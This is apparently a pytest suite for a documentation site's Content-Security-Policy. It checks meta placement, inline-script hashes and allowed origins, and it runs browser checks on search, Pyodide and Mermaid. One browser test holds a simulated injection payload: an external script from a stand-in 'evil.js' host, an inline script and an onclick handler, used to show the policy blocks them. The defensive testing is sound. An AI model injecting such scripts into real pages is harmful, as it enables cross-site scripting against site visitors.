"""Content-Security-Policy, as a <meta> in every page and as the server header.

Static checks read the built HTML; browser checks show that the policy blocks an injected external
script, an injected inline script and an inline event handler, while the site itself (pages, search,
Pyodide) runs without a single violation (tests/test_a11y.py also records violations on every page).
"""

from __future__ import annotations

import base64
import hashlib
import re

import pytest
from site_gates import Auditor, site_pages

from build_scripts.plumbing import csp
from build_scripts.tools.serve import serve_in_thread

META = re.compile(r"""<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)">""", re.IGNORECASE)
# on...= attributes inside a tag (not in text), e.g. <button onclick="...">.
HANDLER = re.compile(r"<[a-zA-Z][^<>]*?\s(on[a-z]+)\s*=", re.IGNORECASE)
# What each directive may allow: the site's own origin, and the exceptions documented in csp.py.
ALLOWED = {
    "script-src": re.compile(r"^('self'|'wasm-unsafe-eval'|'sha256-[A-Za-z0-9+/]+=*')$"),
    "style-src": re.compile(r"^('self'|'unsafe-inline')$"),
    "img-src": re.compile(r"^('self'|data:)$"),
    "object-src": re.compile(r"^'none'$"),
}
SELF_ONLY = re.compile(r"^'self'$")
# An inline <script> (no src): its exact text is what the browser hashes, if it runs it (no type,
# a JavaScript type or module; not data such as application/json).
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\ssrc=)([^>]*)>(.*?)</script>", re.IGNORECASE | re.DOTALL)
SCRIPT_TYPE = re.compile(r"""\stype\s*=\s*["']?([^"'\s>]+)""", re.IGNORECASE)


def executed_inline_scripts(page: str) -> list[str]:
    out = []
    for attrs, body in INLINE_SCRIPT.findall(page):
        kind = (SCRIPT_TYPE.search(attrs) or [None, ""])[1].lower()
        if kind in ("", "module") or "javascript" in kind or "ecmascript" in kind:
            out.append(body)
    return out


def parse_policy(text: str) -> dict[str, list[str]]:
    directives = {}
    for part in text.split(";"):
        name, *sources = part.split()
        directives[name] = sources
    return directives


def html_pages(site_dir):
    return sorted(
        p for p in site_dir.rglob("*.html") if not p.relative_to(site_dir).as_posix().startswith("assets/")
    )


def test_every_page_has_its_policy_before_any_script(site_dir):
    pages = html_pages(site_dir)
    assert len(pages) >= 2
    for path in pages:
        text = path.read_text(encoding="utf-8")
        metas = META.findall(text)
        assert len(metas) == 1, f"{path}: {len(metas)} CSP <meta>"
        meta = META.search(text)
        assert meta is not None
        first_script = text.find("<script")
        assert first_script == -1 or meta.start() < first_script, f"{path}: a script precedes the CSP"
        # Computed here, not by csp.py: every inline script's SHA-256 is allowed, nothing else is.
        hashes = {
            "'sha256-" + base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode() + "'"
            for body in executed_inline_scripts(text)
        }
        allowed = set(parse_policy(metas[0])["script-src"])
        assert {s for s in allowed if s.startswith("'sha256-")} == hashes, f"{path}: script hashes"
        assert allowed - hashes == {"'self'", "'wasm-unsafe-eval'"}, f"{path}: {allowed - hashes}"


def test_policy_allows_only_the_sites_own_origin(site_dir):
    header = parse_policy((site_dir / csp.POLICY_FILE).read_text(encoding="utf-8").strip())
    assert header["default-src"] == ["'self'"]
    assert "'wasm-unsafe-eval'" in header["script-src"]
    for name, sources in header.items():
        rule = ALLOWED.get(name, SELF_ONLY)
        assert all(rule.match(source) for source in sources), f"{name}: {sources}"
    assert "'unsafe-inline'" not in header["script-src"] and "'unsafe-eval'" not in header["script-src"]


def test_header_policy_covers_every_page(site_dir):
    """csp-policy.txt (what serve.py and the deployment guide send) is the union over all pages."""
    written = (site_dir / csp.POLICY_FILE).read_text(encoding="utf-8").strip()
    assert written == csp.site_policy(site_dir)
    header_scripts = set(parse_policy(written)["script-src"])
    for path in html_pages(site_dir):
        page_scripts = set(parse_policy(META.findall(path.read_text(encoding="utf-8"))[0])["script-src"])
        assert page_scripts <= header_scripts, path
    assert "frame-ancestors" in written  # header only: browsers ignore it in a <meta>
    assert "frame-ancestors" not in csp.policy()


def test_no_inline_event_handlers_or_javascript_urls(site_dir):
    """The policy blocks them, so a page that relies on one is broken: none may be built."""
    offenders = []
    for path in html_pages(site_dir):
        text = path.read_text(encoding="utf-8")
        # Scripts' own text may legitimately contain "<a onclick=" in a string: look at markup only.
        markup = re.sub(r"<script\b.*?</script>", "", text, flags=re.DOTALL | re.IGNORECASE)
        offenders += [f"{path.name}: {m}" for m in HANDLER.findall(markup)]
        offenders += [
            f"{path.name}: javascript: URL" for _ in re.findall(r"""=\s*["']\s*javascript:""", markup)
        ]
    assert offenders == []


def test_hash_is_over_the_exact_script_text():
    """SHA-256 of the exact text between the tags, UTF-8, base64 (CSP3); data blocks and src= scripts
    are not hashed.  That browsers agree: the pages run with zero violations (test_a11y, below)."""
    assert csp.script_hash("alert(1)") == "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
    page = '<head><script>a()</script><script type="application/json">{"x":1}</script><script src="x.js"></script>'
    assert csp.inline_scripts(page) == ["a()"]


def test_a_page_without_the_placeholder_still_gets_the_policy():
    page = "<!doctype html><html><head><title>t</title><script>go()</script></head></html>"
    out = csp.apply(page)
    assert out.startswith("<!doctype html><html><head><meta http-equiv=")
    assert csp.script_hash("go()") in out


# --- in the browser ----------------------------------------------------------------------------

ATTACK = """
async () => {
  const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
  const external = document.createElement('script');
  external.src = 'https://cdn.example.com/evil.js';
  document.head.append(external);
  const inline = document.createElement('script');
  inline.textContent = 'window.__inlineRan = true';
  document.head.append(inline);
  const button = document.createElement('button');
  button.setAttribute('onclick', 'window.__handlerRan = true');
  document.body.append(button);
  button.click();
  await wait();
  return {inlineRan: !!window.__inlineRan, handlerRan: !!window.__handlerRan};
}
"""


def attack_targets():
    """The home page and the wizard (its own template, its own scripts), when built."""
    pages = set(site_pages())
    return [p for p in ("", "wizard/") if p in pages] or [""]


@pytest.mark.browser
@pytest.mark.parametrize("rel", attack_targets())
def test_policy_blocks_injected_scripts_and_handlers(browser, base_url, rel):
    auditor = Auditor(browser)
    findings, page = auditor.start(rel), auditor.page
    try:
        page.goto(base_url + rel)
        assert page.evaluate("window.__cspViolations") == [], "the page itself violates its policy"
        ran = page.evaluate(ATTACK)
        violations = page.evaluate("window.__cspViolations")
    finally:
        auditor.close()
    assert ran == {"inlineRan": False, "handlerRan": False}
    blocked = {(v["directive"], v["blocked"]) for v in violations}
    assert ("script-src-elem", "https://cdn.example.com/evil.js") in blocked, violations
    assert ("script-src-elem", "inline") in blocked, violations
    assert ("script-src-attr", "inline") in blocked, violations
    assert findings.external == [], "CSP must stop the request before it is made"


@pytest.mark.browser
def test_search_works_under_the_policy(browser, base_url):
    """Material's search runs in a worker and its page scripts are hashed: both allowed.
    (Pyodide under the policy: the about/check/ and wizard runs in tests/test_a11y.py.)"""
    auditor = Auditor(browser)
    findings, page = auditor.start("search"), auditor.page
    try:
        page.goto(base_url)
        page.fill("input.md-search__input", "党员")
        page.keyboard.press("End")  # CJK fill fires no keyup: Material searches on key events
        page.wait_for_selector(".md-search-result__item", timeout=15000)
        violations = page.evaluate("window.__cspViolations")
    finally:
        auditor.close()
    assert violations == []
    assert findings.errors == [] and findings.console == [] and findings.external == []


@pytest.mark.browser
def test_pyodide_needs_wasm_unsafe_eval(browser, site_dir):
    """The one exception in script-src is needed: without it, no WebAssembly compiles, Pyodide's
    included.  环境自检 compiles an empty module under the page's policy first (browser-support.mjs,
    feature wasm-csp: what Chrome 96, which does not know the keyword, also fails) and says so."""
    server, url = serve_in_thread(site_dir)
    server.csp_policy = server.csp_policy.replace(" 'wasm-unsafe-eval'", "")
    auditor = Auditor(browser)
    page = auditor.page
    try:
        page.goto(url + "about/check/")
        page.wait_for_selector("#env-check[data-state=unsupported]", timeout=30000)
        assert page.get_attribute("#env-check", "data-missing") == "wasm-csp"
        assert page.locator("[data-load-problem]").is_visible()
    finally:
        auditor.close()
        server.shutdown()


@pytest.mark.browser
def test_mermaid_needs_inline_styles(browser, site_dir):
    """'unsafe-inline' in style-src is there for Mermaid's <style> in its SVGs: without it the
    flowchart page's charts are blocked.  If Mermaid stops needing it, this fails: tighten the policy."""
    assert (site_dir / "flowchart" / "index.html").is_file(), (
        "the flowchart page is missing from the built site"
    )
    server, url = serve_in_thread(site_dir)
    server.csp_policy = server.csp_policy.replace(" 'unsafe-inline'", "")
    auditor = Auditor(browser)
    try:
        auditor.start("flowchart/ without 'unsafe-inline' styles")
        auditor.page.goto(url + "flowchart/")
        auditor.page.wait_for_function(
            "window.__cspViolations.some((v) => v.directive.startsWith('style-src'))", timeout=30000
        )
    finally:
        auditor.close()
        server.shutdown()
